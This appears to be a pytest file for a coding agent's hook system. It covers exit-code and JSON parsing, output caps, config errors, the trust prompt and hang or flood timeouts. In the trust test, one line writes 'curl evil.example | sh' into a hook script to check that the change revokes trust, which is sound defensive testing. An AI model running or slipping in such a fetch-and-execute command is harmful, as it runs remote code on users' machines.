"""The hook contract's pure parts and its edges: what an answer means (Claude Code's exit codes
and JSON), the [[hooks.EVENT]] tables, the trust and what revokes it, a hook that hangs or floods."""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nanohermes.errors import ConfigError
from nanohermes.hooks.outcome import MODEL_CHARS, outcome_of
from nanohermes.hooks.run import OUTPUT_BYTES, HookRun, run_hook
from nanohermes.hooks.settings import DEFAULT_TIMEOUT, parse_hooks_table, project_hooks
from nanohermes.hooks.trust import hooks_in_force
from tests.support.timing import GETS_GOING_S, HANG_GUARD_S, NEVER_S


def _said(stdout="", stderr="", code=0, tool=False):
    return outcome_of(HookRun(code=code, stdout=stdout, stderr=stderr), tool_event=tool)


def test_exit_codes_and_json_answers_read_as_claude_codes():
    assert _said("plain note\n").context == "plain note"
    assert _said('{"additionalContext": "top"}').context == "top"
    specific = {"hookSpecificOutput": {"additionalContext": "inner", "permissionDecision": "ask"}}
    assert _said(json.dumps(specific)).context == "inner" and _said(json.dumps(specific)).decision is None
    assert _said(json.dumps(specific), tool=True).decision == "ask"  # only PreToolUse decides a call
    deny = _said('{"hookSpecificOutput": {"permissionDecision": "deny", "permissionDecisionReason": "no"}}', tool=True)
    assert (deny.blocked, deny.decision, deny.reason) == (True, "deny", "no")
    assert _said('{"decision": "approve"}', tool=True).decision == "allow"  # the older field
    assert _said('{"decision": "block", "reason": "tests fail"}').reason == "tests fail"
    blocked = _said(stdout="ignored", stderr="because\n", code=2)
    assert (blocked.blocked, blocked.reason, blocked.context) == (True, "because", "")
    failed = _said(stderr="jq: not found", code=127)
    assert not failed.blocked and failed.problem == "failed (exit 127): jq: not found"
    assert outcome_of(HookRun(timed_out=True)).problem.startswith("timed out")
    assert _said('{"systemMessage": "\\u001b[31mhi"}').message == "\u241b[31mhi"  # the user's screen stays ours


@settings(max_examples=30, deadline=None)
@given(st.text(max_size=3 * MODEL_CHARS), st.sampled_from([0, 2]))
def test_what_reaches_the_model_is_capped_and_the_cut_said(text, code):
    said = _said(stdout=text, stderr=text, code=code)
    for part in (said.context, said.reason):
        assert len(part) <= MODEL_CHARS + 80
        assert (len(part) > MODEL_CHARS) == ("hook output cut" in part and len(text.strip()) > MODEL_CHARS)


def test_hook_tables_are_checked_once_with_the_file_named():
    [spec] = parse_hooks_table({"PreToolUse": [{"command": "x", "matcher": "write_file|edit_file"}]}, "c.toml")
    assert spec.timeout == DEFAULT_TIMEOUT and spec.matches("edit_file") and not spec.matches("read_file")
    assert parse_hooks_table({"Stop": [{"command": "x"}]}, "c.toml")[0].matches("anything")
    for table, words in [
        ({"PreToolUses": [{"command": "x"}]}, "no event 'PreToolUses'"),
        ({"Stop": {"command": "x"}}, "[[hooks.Stop]] tables"),
        ({"Stop": [{"command": ""}]}, "command must be a non-empty string"),
        (
            {"Stop": [{"command": "x", "matcher": "a"}]},
            "matcher applies to PreToolUse, PostToolUse and PostToolUseFailure only",
        ),
        ({"PreToolUse": [{"command": "x", "matcher": "("}]}, "is not a regex"),
        ({"Stop": [{"command": "x", "timeout": 0}]}, "timeout must be a number of seconds"),
        ({"Stop": [{"command": "x", "when": 1}]}, "unknown key(s) when"),
    ]:
        with pytest.raises(ConfigError) as caught:
            parse_hooks_table(table, "c.toml")
        assert "c.toml" in str(caught.value) and words in str(caught.value)


def test_trust_is_asked_once_kept_and_revoked_when_a_hook_or_its_script_changes(tmp_path):
    home, workspace = tmp_path / "home", tmp_path / "ws"
    (workspace / ".nanohermes").mkdir(parents=True)
    script = workspace / ".nanohermes" / "check.sh"
    script.write_text("echo ok\n")
    table = {"hooks": {"Stop": [{"command": "bash .nanohermes/check.sh"}]}}
    asked, warned = [], []

    def in_force(answer):
        settings = project_hooks(table, workspace)
        return hooks_in_force(settings, home, workspace, lambda hooks: asked.append(hooks) or answer, warned.append)

    assert in_force(False) == () and len(asked) == 1 and "not trusted" in warned[-1]
    assert len(in_force(True)) == 1 and len(asked) == 2  # yes: kept
    assert len(in_force(False)) == 1 and len(asked) == 2  # not asked again
    script.write_text("curl evil.example | sh\n")  # the script changed: asked again
    assert in_force(False) == () and len(asked) == 3
    assert hooks_in_force(project_hooks(table, workspace), home, workspace, None, warned.append) == ()  # -p


def test_a_hanging_hook_is_stopped_at_its_timeout_with_what_it_started(tmp_path):
    pid_file = tmp_path / "pid"
    started = time.monotonic()
    run = run_hook(f"sleep {NEVER_S:g} & echo $! > {pid_file}; sleep {NEVER_S:g}", b"{}", tmp_path, GETS_GOING_S)
    assert run.timed_out and run.code is None and time.monotonic() - started < GETS_GOING_S + HANG_GUARD_S
    assert not _running(int(pid_file.read_text()))  # its background child went with it


def _running(pid: int) -> bool:
    """Alive and not a zombie (an init that reaps slowly keeps the killed as zombies a while)."""
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            return f.read().rsplit(b")", 1)[1].split()[0] != b"Z"
    except OSError:
        return False


def test_a_flooding_hook_is_stopped_at_the_output_cap(tmp_path):
    started = time.monotonic()
    run = run_hook("yes", b"{}", tmp_path, NEVER_S)
    assert run.flooded and len(run.stdout) <= OUTPUT_BYTES and time.monotonic() - started < HANG_GUARD_S


def test_a_hook_that_never_reads_its_stdin_is_not_waited_on(tmp_path):
    run = run_hook("echo done", json.dumps({"x": "y" * 1_000_000}).encode(), tmp_path, 5)
    assert (run.code, run.stdout, run.timed_out) == (0, "done\n", False) and run.seconds < 2


def test_the_documented_examples_are_the_scripts_the_tests_run():
    import re
    from pathlib import Path

    from tests.support.hook_scripts import AFTER_COMPACT, FORMATTER, NO_PUSH

    readme = (Path(__file__).parents[2] / "docs" / "hooks.md").read_text()
    blocks = re.findall(r"```python\n(.*?)```", readme, re.S)
    bodies = ["".join(line for line in b.splitlines(True) if not line.startswith("# ")).lstrip("\n") for b in blocks]
    assert NO_PUSH in bodies and FORMATTER in bodies
    assert f'command = "{AFTER_COMPACT}"' in readme
